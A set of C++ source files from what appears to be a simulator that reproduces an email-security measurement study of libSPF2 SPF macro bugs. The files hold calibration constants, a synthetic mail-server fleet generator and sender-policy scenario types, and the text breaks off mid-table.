#include <cstddef>

#include "util/clock.hpp"

namespace spfail::population::paper {

// ------------------------------------------------------------ §5.2 / Table 1
// Domain-set sizes and overlaps.
inline constexpr std::size_t kAlexaTopListDomains = 418842;
inline constexpr std::size_t kAlexaTop1000 = 1000;
inline constexpr std::size_t kTwoWeekMxDomains = 22911;
// Overlaps (Table 1): 2,922 of the 2-Week MX domains are also in the Alexa
// Top List; 135 of them fall inside the Alexa Top 1000.
inline constexpr std::size_t kMxInAlexaTopList = 2922;
inline constexpr std::size_t kMxInAlexa1000 = 135;

// ------------------------------------------------------------ §7.1 / Table 3
// Address-level funnel, Alexa Top List column.
inline constexpr std::size_t kAlexaAddresses = 174679;
inline constexpr double kAlexaAddrRefused = 0.47;
inline constexpr double kAlexaAddrSmtpFailure = 0.37;   // of NoMsg-tested
inline constexpr double kAlexaAddrNoMsgMeasured = 0.13; // of NoMsg-tested
inline constexpr double kAlexaAddrBlankFailure = 0.048; // of BlankMsg-tested
inline constexpr double kAlexaAddrBlankMeasured = 0.58; // of BlankMsg-tested
// 2-Week MX column.
inline constexpr std::size_t kMxAddresses = 11203;
inline constexpr double kMxAddrRefused = 0.25;
inline constexpr double kMxAddrSmtpFailure = 0.24;
inline constexpr double kMxAddrNoMsgMeasured = 0.23;
inline constexpr double kMxAddrBlankFailure = 0.079;
inline constexpr double kMxAddrBlankMeasured = 0.53;

// ------------------------------------------------------------ §7.1 / Table 4
// "Around 1 in every 6 IP addresses that performed SPF validation were found
// to be using a vulnerable version of libSPF2, and close to a quarter ...
// incorrectly expanded SPF macro strings"; 2-Week MX: 1 in 10 vulnerable,
// 1 in 6 incorrect.
inline constexpr double kAlexaVulnerableOfMeasured = 0.18;
inline constexpr double kAlexaErroneousNonVulnOfMeasured = 0.06;
inline constexpr double kMxVulnerableOfMeasured = 0.10;
inline constexpr double kMxErroneousNonVulnOfMeasured = 0.067;
// §7.9: 6% of measurable IPs showed >=2 distinct expansion patterns
// (2,615 servers).
inline constexpr double kMultiStackOfMeasured = 0.06;
// §7.9 split of the non-vulnerable erroneous mass across Table 7 behaviours
// (relative weights; the paper's Table 7 gives the census shape: failure to
// expand at all is the most common error, partial transformer errors rarer).
inline constexpr double kErrNoExpansionWeight = 0.45;
inline constexpr double kErrNoTruncationWeight = 0.22;
inline constexpr double kErrNoReversalWeight = 0.12;
inline constexpr double kErrNoTransformersWeight = 0.14;
inline constexpr double kErrOtherWeight = 0.07;

// ------------------------------------------------------------ §7.6 / Fig 5
inline constexpr std::size_t kVulnerableAddressesTotal = 7212;
inline constexpr std::size_t kVulnerableDomainsTotal = 18660;
inline constexpr std::size_t kInconclusiveRemeasurable = 721;
// Fig 8: the Alexa Top 1000 cohort.
inline constexpr std::size_t kAlexa1000VulnerableDomains = 28;
inline constexpr std::size_t kAlexa1000VulnerableServers = 87;

// ------------------------------------------------------------ §5.3 timeline
inline constexpr util::SimTime kInitialMeasurement =
    util::at_midnight(2021, 10, 11);
inline constexpr util::SimTime kLongitudinalStart =
    util::at_midnight(2021, 10, 26);
inline constexpr util::SimTime kPrivateNotification =
    util::at_midnight(2021, 11, 15);
inline constexpr util::SimTime kMeasurementsPaused =
    util::at_midnight(2021, 11, 30);
inline constexpr util::SimTime kMeasurementsResumed =
    util::at_midnight(2022, 1, 15);
inline constexpr util::SimTime kPublicDisclosure =
    util::at_midnight(2022, 1, 19);
inline constexpr util::SimTime kFinalMeasurement =
    util::at_midnight(2022, 2, 14);
inline constexpr util::SimTime kMeasurementCadence = 2 * util::kDay;

// ------------------------------------------------------------ §7.2 / Fig 2
// End-of-study patch rates.
inline constexpr double kOverallDomainPatchRate = 0.15;   // "about 15%"
inline constexpr double kOverallAddressPatchRate = 0.24;  // conclusion: 24% MTAs
inline constexpr double kAlexa1000PatchRate = 0.08;       // "<10%, least of all"
inline constexpr double kStillVulnerableAtEnd = 0.80;     // ">80% remain"

// ------------------------------------------------------------ §7.6 / Fig 6
// Window-1 (pre-disclosure) patch fractions of initially vulnerable domains.
inline constexpr double kWindow1MxPatched = 0.10;
inline constexpr double kWindow1AlexaPatched = 0.04;

// ------------------------------------------------------------ §7.7
// Private-notification funnel.
inline constexpr std::size_t kNotificationsSent = 6488;
inline constexpr double kNotificationBounceRate = 0.316;
inline constexpr double kNotificationOpenRate = 0.12;  // of delivered
inline constexpr std::size_t kOpenedCount = 512;
inline constexpr std::size_t kOpenedEventuallyPatched = 177;
inline constexpr std::size_t kPatchedBetweenDisclosures = 9;
inline constexpr std::size_t kUnnotifiedPatchedBetween = 37;

// ------------------------------------------------------------ §6.1 scanner
inline constexpr int kMaxConcurrentConnections = 250;
inline constexpr util::SimTime kInterConnectionGap = 90;
inline constexpr util::SimTime kGreylistBackoff = 8 * util::kMinute;

}  // namespace spfail::population::paper
