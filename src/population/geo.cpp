#include "population/geo.hpp"

#include <algorithm>
#include <array>
#include <cmath>

#include "population/tld.hpp"

namespace spfail::population {

namespace {

struct Region {
  const char* name;
  double lat;
  double lon;
  double weight;  // share of global-mix (com/net/org) hosting
};

// Where generic-TLD mail servers actually live: heavy US + EU hosting with a
// meaningful Asian slice (matches Figure 3a's "most populous regions, with a
// slightly higher concentration in Europe" once ccTLDs are added on top).
constexpr std::array kGlobalMix = {
    Region{"us-east", 39.0, -77.0, 0.22}, Region{"us-west", 37.4, -122.1, 0.12},
    Region{"eu-west", 50.1, 8.7, 0.22},   Region{"eu-east", 52.2, 21.0, 0.12},
    Region{"asia-east", 35.7, 139.7, 0.10}, Region{"asia-south", 19.1, 72.9, 0.08},
    Region{"sa", -23.6, -46.6, 0.07},     Region{"oceania", -33.9, 151.2, 0.04},
    Region{"africa", -29.1, 26.2, 0.03},
};

std::string region_label(double lat, double lon) {
  // Coarse, human-readable label for table output.
  if (lat > 24 && lon < -30) return "north-america";
  if (lat < 24 && lat > -60 && lon < -30) return "latin-america";
  if (lat > 35 && lon >= -30 && lon < 45) return "europe";
  if (lat <= 35 && lat > 5 && lon >= -30 && lon < 60) return "mideast-n-africa";
  if (lat <= 5 && lon >= -30 && lon < 60) return "africa";
  if (lon >= 60 && lat > 45) return "russia-cis";
  if (lon >= 60 && lat >= -10) return "asia";
  return "oceania";
}

}  // namespace

GeoPoint GeoDb::assign(const util::IpAddress& address, std::string_view tld) {
  const auto it = points_.find(address);
  if (it != points_.end()) return it->second;

  GeoPoint point;
  const auto profile = find_tld(tld);
  if (profile.has_value() && profile->lat < 900.0) {
    point.lat = profile->lat;
    point.lon = profile->lon;
  } else {
    // Generic TLD: draw a region from the global hosting mix.
    std::array<double, kGlobalMix.size()> weights{};
    for (std::size_t i = 0; i < kGlobalMix.size(); ++i) {
      weights[i] = kGlobalMix[i].weight;
    }
    const Region& region = kGlobalMix[rng_.weighted_index(weights)];
    point.lat = region.lat;
    point.lon = region.lon;
  }
  // Jitter within ~±4 degrees so buckets fill out like real geolocation data.
  point.lat += rng_.uniform01() * 8.0 - 4.0;
  point.lon += rng_.uniform01() * 8.0 - 4.0;
  point.lat = std::clamp(point.lat, -85.0, 85.0);
  point.lon = std::clamp(point.lon, -179.9, 179.9);
  point.region = region_label(point.lat, point.lon);

  return points_.emplace(address, point).first->second;
}

const GeoPoint* GeoDb::lookup(const util::IpAddress& address) const {
  const auto it = points_.find(address);
  return it == points_.end() ? nullptr : &it->second;
}

GeoBucket bucket_of(const GeoPoint& point, double cell_degrees) {
  return GeoBucket{static_cast<int>(std::floor(point.lat / cell_degrees)),
                   static_cast<int>(std::floor(point.lon / cell_degrees))};
}

}  // namespace spfail::population
