// Synthetic Internet mail fleet, calibrated to the paper's published
// distributions (DESIGN.md section 2 documents the substitution).
//
// The generator produces, deterministically per seed:
//   * the three domain sets with Table 1's sizes and overlaps,
//   * Table 2's TLD mix,
//   * an MX topology (domain -> addresses) with shared hosting pools so the
//     address/domain ratio matches Table 3 (~175K addresses for ~419K
//     domains; big providers concentrate many domains on few addresses),
//   * per-address MTA profiles hitting Table 3's reachability funnel and
//     Table 4's behaviour rates (including Table 7's erroneous-variant split
//     and the 6% multi-stack hosts of §7.9),
//   * rank-dependent vulnerability (Figure 4's gradient),
//   * the 20 top email providers of Table 3's last column, with §7.5's
//     vulnerable internationals (naver, mail.ru/vk, wp.pl, seznam/email.cz)
//     and the non-vulnerable majors (gmail, outlook, icloud, yahoo),
//   * DbIP-style geolocation for every address (Figure 3).
//
// `scale` shrinks every set proportionally so tests and benches run at
// laptop scale; rates are scale-invariant.
#pragma once

#include <map>
#include <memory>
#include <string>
#include <vector>

#include "dns/server.hpp"
#include "mta/host.hpp"
#include "population/geo.hpp"
#include "population/tld.hpp"
#include "scan/campaign.hpp"
#include "scan/test_responder.hpp"
#include "util/clock.hpp"
#include "util/rng.hpp"

namespace spfail::population {

struct DomainRecord {
  std::string name;
  std::string tld;
  bool in_alexa = false;
  bool in_alexa1000 = false;
  bool in_mx = false;
  std::size_t alexa_rank = 0;     // 1-based; 0 if not in the Alexa set
  std::size_t mx_query_count = 0; // the 2-Week MX usage metric; 0 if not in it
  bool is_top_provider = false;
  std::string provider_name;
  std::vector<util::IpAddress> addresses;
};

struct AddressInfo {
  std::string tld;              // TLD of the first domain that used it
  std::size_t domains_hosted = 0;
  std::size_t best_rank = 0;    // lowest Alexa rank hosted (0 = none)
  bool provider_pool = false;
  bool in_alexa_set = false;
  bool in_mx_set = false;
};

struct FleetConfig {
  double scale = 0.1;        // 1.0 = the paper's full population
  std::uint64_t seed = 2021; // the year of the measurement, why not
};

class Fleet : public scan::HostRegistry {
 public:
  explicit Fleet(FleetConfig config = {});

  // --- infrastructure shared with the scanner & longitudinal sim ---
  util::SimClock& clock() noexcept { return clock_; }
  dns::AuthoritativeServer& dns() noexcept { return dns_; }
  const scan::TestResponderConfig& responder() const noexcept {
    return responder_;
  }
  GeoDb& geo() noexcept { return geo_; }
  const GeoDb& geo() const noexcept { return geo_; }
  const FleetConfig& config() const noexcept { return config_; }

  // --- population access ---
  const std::vector<DomainRecord>& domains() const noexcept { return domains_; }
  const AddressInfo& info(const util::IpAddress& address) const;
  std::size_t address_count() const noexcept { return hosts_.size(); }

  mta::MailHost* find_host(const util::IpAddress& address) override;
  const mta::MailHost* find_host(const util::IpAddress& address) const;

  // All domains as campaign targets (optionally one set only).
  enum class SetFilter { All, AlexaTopList, Alexa1000, TwoWeekMx };
  std::vector<scan::TargetDomain> targets(SetFilter filter = SetFilter::All) const;

  // Re-resolve a domain's addresses as the end-of-study snapshot does
  // (§7.2). In this model the mapping is stable — MX churn is represented
  // by the snapshot's blacklist-recovery draw in longitudinal::Study (a
  // changed front shedding the scanner block) rather than by address
  // renumbering, so this returns the build-time mapping.
  const std::vector<util::IpAddress>& current_addresses(
      const DomainRecord& domain) const;

 private:
  void build();
  util::IpAddress next_address();
  // `rank_pct`: the creating domain's rank percentile (0 = most popular,
  // 1 = tail) — drives Figure 4's vulnerability gradient.
  util::IpAddress new_host(const std::string& tld, bool provider_pool,
                           bool in_alexa, bool in_mx, double rank_pct,
                           util::Rng& rng);
  void build_top_providers(util::Rng& rng);

  FleetConfig config_;
  util::SimClock clock_{util::at_midnight(2021, 10, 11)};
  dns::AuthoritativeServer dns_;
  scan::TestResponderConfig responder_;
  GeoDb geo_;

  std::vector<DomainRecord> domains_;
  std::map<util::IpAddress, std::unique_ptr<mta::MailHost>> hosts_;
  std::map<util::IpAddress, AddressInfo> info_;
  std::uint32_t next_address_value_ = 0x0B000001;  // 11.0.0.1 onwards
  std::uint32_t next_v6_value_ = 1;  // 2001:db8::/32, sequential
  std::uint32_t v6_interleave_ = 0;  // every 12th host gets a v6 address
};

}  // namespace spfail::population
