// Synthetic Internet mail fleet, calibrated to the paper's published
// distributions (DESIGN.md section 2 documents the substitution).
//
// The generator produces, deterministically per seed:
//   * the three domain sets with Table 1's sizes and overlaps,
//   * Table 2's TLD mix,
//   * an MX topology (domain -> addresses) with shared hosting pools so the
//     address/domain ratio matches Table 3 (~175K addresses for ~419K
//     domains; big providers concentrate many domains on few addresses),
//   * per-address MTA profiles hitting Table 3's reachability funnel and
//     Table 4's behaviour rates (including Table 7's erroneous-variant split
//     and the 6% multi-stack hosts of §7.9),
//   * rank-dependent vulnerability (Figure 4's gradient),
//   * the 20 top email providers of Table 3's last column, with §7.5's
//     vulnerable internationals (naver, mail.ru/vk, wp.pl, seznam/email.cz)
//     and the non-vulnerable majors (gmail, outlook, icloud, yahoo),
//   * DbIP-style geolocation for every address (Figure 3).
//
// `scale` shrinks every set proportionally so tests and benches run at
// laptop scale; rates are scale-invariant.
//
// Storage model (DESIGN.md §14): every name (domain, TLD, provider) lives
// once in an intern table, every MX address once in a flat pool; the public
// DomainRecord is views+spans into those, and host behaviour is packed into
// a ~48-byte HostSpec from which the full MailHost is materialised — eagerly
// by default, or on demand when FleetConfig::lazy_hosts streams the fleet.
#pragma once

#include <array>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <span>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "dns/server.hpp"
#include "mta/host.hpp"
#include "population/geo.hpp"
#include "population/policy_mix.hpp"
#include "spf/record_cache.hpp"
#include "population/tld.hpp"
#include "scan/campaign.hpp"
#include "scan/test_responder.hpp"
#include "util/clock.hpp"
#include "util/intern.hpp"
#include "util/rng.hpp"

namespace spfail::population {

struct DomainRecord {
  // Views into the fleet's intern table; valid for the fleet's lifetime.
  std::string_view name;
  std::string_view tld;
  std::string_view provider_name;  // empty unless is_top_provider
  // Slice of the fleet's shared address pool.
  std::span<const util::IpAddress> addresses;
  std::uint32_t alexa_rank = 0;     // 1-based; 0 if not in the Alexa set
  std::uint32_t mx_query_count = 0; // the 2-Week MX usage metric; 0 if not
  bool in_alexa = false;
  bool in_alexa1000 = false;
  bool in_mx = false;
  bool is_top_provider = false;
};

struct AddressInfo {
  std::string_view tld;         // TLD of the first domain that used it
  std::size_t domains_hosted = 0;
  std::size_t best_rank = 0;    // lowest Alexa rank hosted (0 = none)
  bool provider_pool = false;
  bool in_alexa_set = false;
  bool in_mx_set = false;
};

struct FleetConfig {
  double scale = 0.1;        // 1.0 = the paper's full population
  std::uint64_t seed = 2021; // the year of the measurement, why not
  // Stream hosts instead of holding them: MailHosts are materialised on
  // find_host and evicted again on release_host, with scanner-visible
  // residue (greylist map, flaky-RNG cursor, patch/blacklist flags)
  // preserved across the round trip. Reports are byte-identical either way.
  bool lazy_hosts = false;
  // Receiver behaviour rates plus the scenario layer's sender staging. The
  // default mix reproduces the historical population byte for byte and
  // stages nothing; a mix with positive sender rates additionally draws one
  // SenderPolicy per domain (from its own RNG fork, after all other build
  // lanes) and publishes the matching SPF/DKIM/DMARC DNS records.
  PolicyMix mix;
};

class Fleet : public scan::HostRegistry {
 public:
  explicit Fleet(FleetConfig config = {});

  // --- infrastructure shared with the scanner & longitudinal sim ---
  util::SimClock& clock() noexcept { return clock_; }
  dns::AuthoritativeServer& dns() noexcept { return dns_; }
  const scan::TestResponderConfig& responder() const noexcept {
    return responder_;
  }
  GeoDb& geo() noexcept { return geo_; }
  const GeoDb& geo() const noexcept { return geo_; }
  const FleetConfig& config() const noexcept { return config_; }

  // --- population access ---
  const std::vector<DomainRecord>& domains() const noexcept { return domains_; }
  const AddressInfo& info(const util::IpAddress& address) const;
  std::size_t address_count() const noexcept { return specs_.size(); }

  // The intern table behind every DomainRecord view — exposed for the
  // snapshot layer's integrity section and the memory bench's stats.
  const util::Interner& strings() const noexcept { return strings_; }

  // The fleet-wide shared SPF record-parse memo every host's evaluators read
  // through (DESIGN.md §16); exposed for the contention bench's stats.
  const spf::SharedRecordCache& record_cache() const noexcept {
    return *record_cache_;
  }

  mta::MailHost* find_host(const util::IpAddress& address) override;
  const mta::MailHost* find_host(const util::IpAddress& address) const;

  // Lazy mode only: evict the materialised host, keeping its residue so the
  // next find_host rebuilds it mid-conversation. No-op in eager mode.
  void release_host(const util::IpAddress& address) override;
  // How many MailHosts are currently materialised (bench/test observability).
  std::size_t live_hosts() const;

  // --- scenario staging (populated only when config().mix stages senders;
  // see src/scenario/) ---
  // The staged sender policy of domains()[domain_index]. In a baseline
  // fleet every entry is the default (unstaged) policy.
  const SenderPolicy& sender_policy(std::size_t domain_index) const;
  // Addresses of hosts a scenario flow can usefully dial: reachable,
  // SMTP-whole SPF validators without greylisting/flakiness that accept at
  // least administrative recipients. Sorted; empty in a baseline fleet.
  const std::vector<util::IpAddress>& scenario_receivers() const noexcept {
    return scenario_receivers_;
  }

  // All domains as campaign targets (optionally one set only).
  enum class SetFilter { All, AlexaTopList, Alexa1000, TwoWeekMx };
  std::vector<scan::TargetDomain> targets(SetFilter filter = SetFilter::All) const;

  // Streaming view of the same targets: yields (name, addresses) pairs
  // straight out of the intern table and address pool, so a campaign round
  // never materialises a TargetDomain vector.
  class TargetView final : public scan::TargetSource {
   public:
    TargetView(const Fleet& fleet, SetFilter filter)
        : fleet_(fleet), filter_(filter) {}
    std::size_t domain_count() const override;
    std::size_t address_upper_bound() const override;
    void for_each(
        const std::function<void(std::string_view,
                                 std::span<const util::IpAddress>)>& fn)
        const override;

   private:
    const Fleet& fleet_;
    SetFilter filter_;
  };
  TargetView target_source(SetFilter filter = SetFilter::All) const {
    return TargetView(*this, filter);
  }

  // Re-resolve a domain's addresses as the end-of-study snapshot does
  // (§7.2). In this model the mapping is stable — MX churn is represented
  // by the snapshot's blacklist-recovery draw in longitudinal::Study (a
  // changed front shedding the scanner block) rather than by address
  // renumbering, so this returns the build-time mapping.
  std::span<const util::IpAddress> current_addresses(
      const DomainRecord& domain) const {
    return domain.addresses;
  }

 private:
  // Everything new_host draws, packed flat. to_profile() reconstructs the
  // exact HostProfile the draw produced; fields the generator never sets
  // (greylist_delay, dns_tempfail_rate) come back as profile defaults.
  struct HostSpec {
    util::IpAddress address;
    spfvuln::SpfBehavior primary = spfvuln::SpfBehavior::RfcCompliant;
    mta::SpfTiming spf_timing = mta::SpfTiming::AtMailFrom;
    enum class Recipients : std::uint8_t { Any, NobodyReal, AdminSet };
    Recipients recipients = Recipients::Any;
    bool multi_stack = false;  // extra RfcCompliant engine (§7.9)
    bool accepts_connections = true;
    bool smtp_broken = false;
    bool validates_spf = true;
    bool greylists = false;
    bool checks_dmarc = false;
    bool flaky = false;  // flaky_spf_rate 0.9
    bool rejects_spf_fail = true;
    bool rejects_messages = false;

    mta::HostProfile to_profile() const;
  };

  // Scanner-visible state a released host leaves behind; applied back when
  // the address is rematerialised. Only saved when the host is non-pristine
  // (a few percent of hosts per round), so the residue map stays small.
  struct Residual {
    std::map<util::IpAddress, util::SimTime> greylist_seen;
    std::array<std::uint64_t, 4> flaky_rng{};
    bool has_flaky_rng = false;
    bool blacklisted = false;
    bool patched = false;
  };

  // Mutable build-time shapes; finalise() compacts them away.
  struct StagingDomain;

  void build();
  void finalise(std::vector<StagingDomain>&& staging,
                std::map<util::IpAddress, AddressInfo>&& info);
  util::IpAddress next_address();
  // `rank_pct`: the creating domain's rank percentile (0 = most popular,
  // 1 = tail) — drives Figure 4's vulnerability gradient.
  util::IpAddress new_host(const std::string& tld, bool provider_pool,
                           bool in_alexa, bool in_mx, double rank_pct,
                           util::Rng& rng,
                           std::map<util::IpAddress, AddressInfo>& info);
  void build_top_providers(util::Rng& rng,
                           std::vector<StagingDomain>& staging,
                           std::map<util::IpAddress, AddressInfo>& info);
  // Pack the freshly drawn profile into a HostSpec (the draw itself is
  // unchanged, so RNG sequences — and with them the whole population — stay
  // identical to the pre-§14 generator).
  void stage_host(const mta::HostProfile& profile);
  // Scenario staging: draw one SenderPolicy per domain from `rng` (a
  // dedicated fork; the historical lanes never see it), install the staged
  // SPF/DKIM/DMARC records as zones, and collect scenario_receivers_.
  // Runs after finalise(); no-op content-wise for the default mix (callers
  // skip it entirely then, so baseline builds touch no extra RNG state).
  void stage_sender_policies(util::Rng rng);

  // Index into specs_/hosts_ for `address`; npos when absent.
  std::size_t spec_index(const util::IpAddress& address) const;
  // Materialise (or fetch) the host at sorted index `index`. Logically
  // const: the host cache and residue map are mutable state.
  mta::MailHost* materialise(std::size_t index) const;

  FleetConfig config_;
  util::SimClock clock_{util::at_midnight(2021, 10, 11)};
  // Shared parse memo, created before any host so both materialisation paths
  // can hand it to MailHost. unique_ptr keeps the Fleet movable-by-nobody
  // while letting hosts hold a stable pointer.
  std::unique_ptr<spf::SharedRecordCache> record_cache_ =
      std::make_unique<spf::SharedRecordCache>();
  dns::AuthoritativeServer dns_;
  scan::TestResponderConfig responder_;
  GeoDb geo_;

  // One copy of every name the population uses (domains, TLDs, providers).
  util::Interner strings_;
  // Every (domain -> address) edge, flattened; DomainRecord slices this.
  std::vector<util::IpAddress> address_pool_;
  std::vector<DomainRecord> domains_;
  // Address metadata, sorted by address (binary-searched).
  std::vector<std::pair<util::IpAddress, AddressInfo>> info_;

  // Scenario staging results; empty/default unless the mix stages senders.
  std::vector<SenderPolicy> sender_policies_;  // aligned with domains_
  std::vector<util::IpAddress> scenario_receivers_;

  // Host storage: specs sorted by address, hosts_ index-aligned. In eager
  // mode every slot is filled at construction; in lazy mode slots fill on
  // find_host and empty on release_host under lazy_mutex_.
  std::vector<HostSpec> specs_;
  mutable std::vector<std::unique_ptr<mta::MailHost>> hosts_;
  mutable std::unordered_map<util::IpAddress, Residual, util::IpAddressHash>
      residuals_;
  mutable std::mutex lazy_mutex_;

  std::uint32_t next_address_value_ = 0x0B000001;  // 11.0.0.1 onwards
  std::uint32_t next_v6_value_ = 1;  // 2001:db8::/32, sequential
  std::uint32_t v6_interleave_ = 0;  // every 12th host gets a v6 address
};

}  // namespace spfail::population
