// Per-TLD calibration: Table 2 set frequencies, Table 5 patch-rate targets,
// per-TLD vulnerability multipliers implied by Table 5's "initially
// vulnerable" column, and a geographic anchor for Figure 3.
#pragma once

#include <cstddef>
#include <optional>
#include <span>
#include <string>
#include <string_view>

namespace spfail::population {

struct TldProfile {
  std::string_view tld;
  // Table 2 counts (0 where the paper doesn't list the TLD in a set; the
  // generator spreads a residual tail over listed-but-small TLDs).
  std::size_t alexa_count;
  std::size_t mx_count;
  // Multiplier on the base per-address vulnerability rate — derived from the
  // ratio of Table 5 "initially vulnerable" counts to Table 2 set sizes
  // (e.g. .ir and .ru are several times the global baseline).
  double vulnerability_multiplier;
  // Final patch probability for an initially vulnerable address under this
  // TLD (Table 5 for the listed TLDs; the global ~24% address rate else).
  double patch_rate;
  // Fraction of that TLD's patching that lands in window 1 (pre-disclosure).
  // §7.3: .za patched 98% before the private notification even went out.
  double window1_share;
  // Geographic anchor (degrees); lat=999 marks "global mix" TLDs whose
  // addresses scatter across regions.
  double lat;
  double lon;
};

// The full calibration table (Table 2 top-15s, Table 5 best/worst, plus a
// synthetic tail so every generated domain has a TLD profile).
std::span<const TldProfile> tld_profiles();

// Profile lookup; nullopt for unknown TLDs (callers fall back to defaults).
std::optional<TldProfile> find_tld(std::string_view tld);

}  // namespace spfail::population
