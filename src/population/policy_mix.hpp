// PolicyMix: the one value type behind every fleet behaviour selection.
//
// Before the scenario layer, Fleet::new_host drew host behaviours from rate
// literals buried in the generator, and there was no way at all to express a
// *sender-side* population ("12% of domains forward without SRS, 7% publish
// +all"). PolicyMix bundles both surfaces:
//
//   * receiver rates — the per-host behaviour draws the generator always
//     made (greylisting, DMARC checking, flakiness, recipient policy,
//     SPF-fail rejection, multi-stack). Defaults equal the historical
//     literals, so a default mix reproduces the pre-scenario population
//     byte for byte, RNG draw for RNG draw.
//   * sender rates — the scenario staging: per-domain mail-routing
//     (forwarders with/without SRS, ESP envelopes), DKIM signing
//     (aligned/misaligned), DMARC publication (policy shares, pct=), and
//     SPF misconfiguration (+all, over-broad CIDR, >10-lookup include
//     chains). All zero by default: a baseline fleet stages nothing and
//     installs no extra DNS.
//
// Scenarios (src/scenario/), benches, and tests construct mixes explicitly
// via the named constructors instead of poking individual knobs in four
// places.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

#include "dmarc/record.hpp"
#include "util/ip.hpp"

namespace spfail::population {

// --- sender-policy staging enums (one triple drawn per domain) ---

// The SPF record a staged domain publishes.
enum class SenderSpf : std::uint8_t {
  Normal,     // v=spf1 <origin> -all — authorizes only the real outbound IP
  PlusAll,    // v=spf1 <origin> +all — anyone passes (Lazy Gatekeepers)
  BroadCidr,  // an over-broad ip4:/8 that happens to cover the attacker
  LongChain,  // >10 chained includes — every evaluation ends in permerror
};

// Whether (and how) a staged domain DKIM-signs its outbound mail.
enum class SenderDkim : std::uint8_t {
  None,        // unsigned
  Aligned,     // d= equals the From domain — rescues DMARC when SPF breaks
  Misaligned,  // d= is the ESP's domain — signs, but never aligns
};

// The path a staged domain's legitimate mail takes to the receiver.
enum class SenderRouting : std::uint8_t {
  Direct,        // origin IP straight to the receiver
  ForwardPlain,  // forwarder hop preserving MAIL FROM — SPF breaks
  ForwardSrs,    // forwarder hop rewriting MAIL FROM (SRS) — SPF passes,
                 // but no longer aligns with the From domain
  EspEnvelope,   // sent by an ESP under its own bounce domain (SPF
                 // misaligned by construction)
};

std::string to_string(SenderSpf spf);
std::string to_string(SenderDkim dkim);
std::string to_string(SenderRouting routing);

// Strict inverses of to_string; throw std::invalid_argument on unknown text.
SenderSpf parse_sender_spf(std::string_view text);
SenderDkim parse_sender_dkim(std::string_view text);
SenderRouting parse_sender_routing(std::string_view text);

// One domain's staged sender policy (all defaults = unstaged).
struct SenderPolicy {
  SenderSpf spf = SenderSpf::Normal;
  SenderDkim dkim = SenderDkim::None;
  SenderRouting routing = SenderRouting::Direct;
  bool publishes_spf = false;    // set for every staged domain
  bool publishes_dmarc = false;
  dmarc::Policy dmarc_policy = dmarc::Policy::None;
  std::uint8_t dmarc_pct = 100;

  bool staged() const noexcept { return publishes_spf; }

  friend bool operator==(const SenderPolicy&, const SenderPolicy&) = default;
};

struct PolicyMix {
  // --- receiver-side behaviour rates (Fleet::new_host; defaults are the
  // paper-calibrated literals the generator has always used) ---
  double greylist_rate = 0.02;         // §5.2 backoff-absorbed greylisting
  double dmarc_check_rate = 0.4;       // Deccio et al. [3]
  double flaky_rate = 0.02;            // §6.1 re-measurable cohort
  double admin_recipient_rate = 0.20;  // postmaster/abuse/admin/info only
  double reject_spf_fail_rate = 0.6;
  double multi_stack_rate = 0.26;      // §7.9, conditional on non-compliant

  // --- sender-side scenario rates (all zero: nothing staged) ---
  double forward_plain_rate = 0.0;   // routing: ForwardPlain
  double forward_srs_rate = 0.0;     // routing: ForwardSrs
  double esp_envelope_rate = 0.0;    // routing: EspEnvelope
  double dkim_aligned_rate = 0.0;    // dkim: Aligned
  double dkim_misaligned_rate = 0.0; // dkim: Misaligned
  double dmarc_publish_rate = 0.0;
  double dmarc_reject_share = 0.0;     // of published records: p=reject
  double dmarc_quarantine_share = 0.0; // of published: p=quarantine
  int dmarc_pct = 100;                 // pct= on every published record
  double spf_plus_all_rate = 0.0;    // spf: PlusAll
  double spf_broad_cidr_rate = 0.0;  // spf: BroadCidr
  double spf_long_chain_rate = 0.0;  // spf: LongChain

  // True when any sender-side rate is positive — the fleet then runs the
  // sender staging pass and installs the scenario DNS zones.
  bool stages_senders() const noexcept;

  // Throws std::invalid_argument when a rate is outside [0, 1], a rate
  // group sums past 1, or dmarc_pct is outside [0, 100].
  void validate() const;

  // Named mixes. paper_baseline() == PolicyMix{}: today's population.
  static PolicyMix paper_baseline();
  // Forward Pass (arXiv 2302.07287): forwarder hops break SPF; SRS restores
  // it at the cost of alignment; aligned DKIM rescues DMARC.
  static PolicyMix forwarding();
  // Weak Links (arXiv 2011.08420): SPF-misaligned ESP mail and misaligned
  // DKIM under published DMARC policies, with pct= sampling in play.
  static PolicyMix alignment();
  // Lazy Gatekeepers (arXiv 2502.08240): +all, over-broad CIDRs, and
  // >10-lookup include chains producing permerror.
  static PolicyMix misconfig();

  friend bool operator==(const PolicyMix&, const PolicyMix&) = default;
};

// --- fixed scenario network endpoints (installed by the fleet's staging
// pass, dialled by the scenario runner; RFC 5737/3849 documentation space
// so they can never collide with generated MTA addresses) ---

util::IpAddress forwarder_address();  // the forwarding hop's outbound IP
util::IpAddress esp_address();        // the ESP's outbound IP
util::IpAddress attacker_address();   // the spoofing adversary

inline constexpr std::string_view kScenarioZone = "scenario-net.example";
inline constexpr std::string_view kForwarderDomain =
    "fwd-pool.scenario-net.example";
inline constexpr std::string_view kEspBounceDomain =
    "bounce.esp.scenario-net.example";
inline constexpr std::string_view kEspSignerDomain = "esp-mail.example";
inline constexpr std::string_view kDkimSelector = "scn";

// The deterministic signing secret for a DKIM key record ("k:" + domain);
// shared between the fleet's key publication and the runner's Signer.
std::string dkim_secret_for(std::string_view domain);

}  // namespace spfail::population
