#include "population/tld.hpp"

#include <array>

namespace spfail::population {

namespace {

// Columns: tld, alexa_count, mx_count, vuln_mult, patch_rate, w1_share,
// lat, lon.
//
// * alexa/mx counts for the top-15 TLDs are Table 2 verbatim.
// * vulnerability multipliers are fitted so per-TLD "initially vulnerable"
//   counts land near Table 5 (com 8,412; ir 2,130; ru 2,030; tr 232; de 183;
//   il 182; za 150; by 98; tw 96; eu 56; gr 53) given a global base rate.
// * patch rates are Table 5 verbatim for its listed TLDs; com is 15% (§7.3);
//   unlisted TLDs default to the global average inside the generator.
constexpr std::array kProfiles = {
    //             tld    alexa      mx   vuln  patch  w1    lat     lon
    TldProfile{"com", 230801, 11182, 0.80, 0.15, 0.25, 999.0, 999.0},
    TldProfile{"ru", 19844, 0, 2.30, 0.02, 0.10, 55.7, 37.6},
    TldProfile{"ir", 17207, 0, 2.80, 0.03, 0.10, 35.7, 51.4},
    TldProfile{"net", 16672, 1441, 0.80, 0.15, 0.25, 999.0, 999.0},
